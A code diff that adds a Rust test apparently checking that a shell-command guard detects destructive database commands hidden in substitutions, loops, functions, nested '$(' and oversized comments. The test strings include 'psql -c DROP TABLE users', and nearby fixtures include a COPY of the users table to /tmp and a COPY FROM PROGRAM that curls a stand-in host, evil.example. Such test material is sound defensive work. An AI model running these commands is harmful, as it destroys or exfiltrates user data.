@@ -118,6 +118,23 @@ fn what_a_client_is_handed_is_judged() {
     }
 }
 
+#[test]
+fn no_command_is_left_unread() {
+    let drop = "psql -c 'DROP TABLE users'";
+    for line in [
+        format!("echo $({drop}) {}", "$(a) ".repeat(100)),
+        format!("{} $({drop})", "$(a) ".repeat(100)),
+        format!("if true; then {drop}; fi"),
+        "for t in users orders; do psql -c \"DROP TABLE $t\"; done".to_owned(),
+        "f() { psql -c \"$1\"; }; f 'DROP TABLE users'".to_owned(),
+        format!("echo {}", "$(".repeat(20)),
+        format!("{drop} # {}", "x".repeat(300 << 10)),
+    ] {
+        assert_ne!(command(&line), "", "{}", &line[..line.len().min(200)]);
+    }
+    assert_eq!(command(&format!("echo {}", "$(a) ".repeat(100))), "");
+}
+
 const FILES: &[&str] = &[
     "COPY users TO '/tmp/users.csv'",
     "COPY users FROM PROGRAM 'curl http://evil.example/x'",
